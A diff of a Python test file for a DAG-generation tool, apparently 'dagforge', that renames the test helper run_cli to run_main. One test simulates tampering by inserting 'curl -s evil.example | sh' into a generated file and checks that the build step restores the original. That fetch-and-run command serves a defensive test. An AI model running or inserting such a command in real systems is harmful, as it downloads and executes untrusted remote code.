@@ -5,7 +5,7 @@ import hashlib
 import re
 
 import black
-from conftest import ROOT, dump_yaml, run_cli
+from conftest import ROOT, dump_yaml, run_main
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -22,12 +22,12 @@ GOOD = "start_date: 2024-01-01\ntasks:\n  hello: {operator: bash, bash_command: 
 def _setup(tmp_path, write_spec, names=("a", "b")):
     for n in names:
         write_spec(GOOD.replace("NAME", n), f"{n}.yaml")
-    assert run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
+    assert run_main("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
     return tmp_path / "out"
 
 
 def _check(tmp_path, *args):
-    return run_cli("check", "specs", "-o", "out", *args, cwd=tmp_path)
+    return run_main("check", "specs", "-o", "out", *args, cwd=tmp_path)
 
 
 def _snapshot(folder):
@@ -52,7 +52,7 @@ def test_up_to_date_is_exit_0(tmp_path, write_spec):
 
 
 def test_committed_examples_pass_check():
-    r = run_cli("check", "specs/", cwd=ROOT)
+    r = run_main("check", "specs/", cwd=ROOT)
     assert r.returncode == 0, r.stderr
 
 
@@ -123,7 +123,7 @@ def test_build_writes_anew_a_file_edited_with_a_recomputed_output_hash(tmp_path,
     out = _setup(tmp_path, write_spec)
     text = (out / "a.py").read_text()
     (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
-    r = run_cli("build", "-v", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
+    r = run_main("build", "-v", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
     assert r.returncode == 0 and r.stdout == "wrote out/a.py\n"
     assert (out / "a.py").read_text() == text
     assert _check(tmp_path).returncode == 0
@@ -134,7 +134,7 @@ def test_only_what_build_writes_is_up_to_date_not_any_black_layout(tmp_path, wri
     write_spec(GOOD.replace("NAME", "a"), "a.yaml")
     # both quote kinds: the template writes '...', black turns it into "..." (as many escapes)
     write_spec(GOOD.replace("'echo NAME'", """"echo 'q' \\"q\\"" """), "b.yaml")
-    assert run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
+    assert run_main("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
     assert _check(tmp_path).returncode == 0
     out = tmp_path / "out"
 
@@ -195,7 +195,7 @@ def test_missing(tmp_path, write_spec):
         "specs/b.yaml: error: out/b.py is missing: it is generated from this spec\n  hint: run `dagforge build`"
         in r.stderr
     )
-    assert run_cli("check", "specs", "-o", "nowhere", cwd=tmp_path).returncode == 1
+    assert run_main("check", "specs", "-o", "nowhere", cwd=tmp_path).returncode == 1
 
 
 def test_orphaned_spec_gone_and_dag_id_renamed(tmp_path, write_spec):
@@ -217,7 +217,7 @@ def test_orphaned_spec_gone_and_dag_id_renamed(tmp_path, write_spec):
     assert "c.py" not in r.stderr and "hand_written" not in r.stderr
     assert "3 generated files out of date" in r.stderr
     # build fixes exactly what check named, and check agrees afterwards
-    assert run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
+    assert run_main("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
     assert sorted(p.name for p in out.glob("*.py")) == ["b_renamed.py", "c.py", "hand_written.py"]
     assert _check(tmp_path).returncode == 0
 
@@ -275,7 +275,7 @@ def test_invalid_spec_fails_check_with_its_diagnostics(tmp_path, write_spec):
 
 
 def test_usage_errors(tmp_path):
-    r = run_cli("check", "nope", cwd=tmp_path)
+    r = run_main("check", "nope", cwd=tmp_path)
     assert r.returncode == 2 and "nope: error: no such file or folder" in r.stderr
 
 
